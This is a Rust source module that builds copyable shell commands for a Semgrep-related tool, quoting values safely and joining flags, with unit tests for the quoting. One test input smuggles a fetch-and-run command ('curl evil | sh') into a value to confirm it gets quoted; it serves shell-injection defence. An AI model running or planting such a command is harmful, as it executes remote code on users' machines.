//! Commands that people copy: they must aim where this run aimed, and be safe to paste.

use std::path::PathBuf;

use super::args::Global;

/// A word for a shell; quoted where it holds anything but plain characters. Some shells read a leading `=` otherwise.
pub(super) fn quoted(word: &str) -> String {
    let plain = |c: char| c.is_alphanumeric() || "-_./:@=,+%".contains(c);
    if !word.is_empty() && !word.starts_with('=') && word.chars().all(plain) {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

/// A flag with its value, after a blank. What looks like a flag itself must not stand alone.
pub(super) fn flag(name: &str, value: &str) -> String {
    // The sandbox's may be left out, and is taken for left out where it stands alone.
    let joined = name == "--sandbox" || value.starts_with('-');
    format!(" {name}{}{}", if joined { "=" } else { " " }, quoted(value))
}

/// The flags of this run that decide where another command goes; each after a blank.
pub(super) fn aim(global: &Global) -> String {
    let flags = [
        ("--semgrep-url", global.semgrep_url.clone()),
        ("--deployment", global.deployment.clone()),
        ("--config", shown(global.config.as_ref())),
        ("--profile", global.profile.clone()),
        (
            "--semgrep-token-file",
            shown(global.semgrep_token_file.as_ref()),
        ),
        (
            "--semgrep-token-command",
            global.semgrep_token_command.clone(),
        ),
    ];
    aim_of_many(global) + &given(flags)
}

/// Those that hold for each deployment of a fleet, whose file says the rest.
pub(super) fn aim_of_many(global: &Global) -> String {
    given([
        ("--sandbox", global.sandbox.clone()),
        ("--ca-cert", shown(global.ca_cert.as_ref())),
    ])
}

fn shown(path: Option<&PathBuf>) -> Option<String> {
    path.map(|path| path.display().to_string())
}

fn given<const N: usize>(flags: [(&str, Option<String>); N]) -> String {
    let given = flags
        .into_iter()
        .filter_map(|(name, value)| Some(flag(name, &value?)));
    given.collect()
}

#[cfg(test)]
mod tests {
    use super::{flag, quoted};

    #[test]
    fn what_a_shell_would_read_otherwise_is_quoted() {
        assert_eq!(quoted("acme/web"), "acme/web");
        assert_eq!(quoted("x; curl evil | sh #"), "'x; curl evil | sh #'");
        assert_eq!(quoted("it's"), "'it'\\''s'");
        assert_eq!(quoted(""), "''");
        assert_eq!(quoted("=ls"), "'=ls'");
    }

    #[test]
    fn a_value_that_looks_like_a_flag_is_none() {
        assert_eq!(flag("--deployment", "acme"), " --deployment acme");
        assert_eq!(flag("--deployment", "--yes"), " --deployment=--yes");
        assert_eq!(flag("--namespace", "-a b"), " --namespace='-a b'");
        assert_eq!(flag("--sandbox", "ready"), " --sandbox=ready");
    }
}
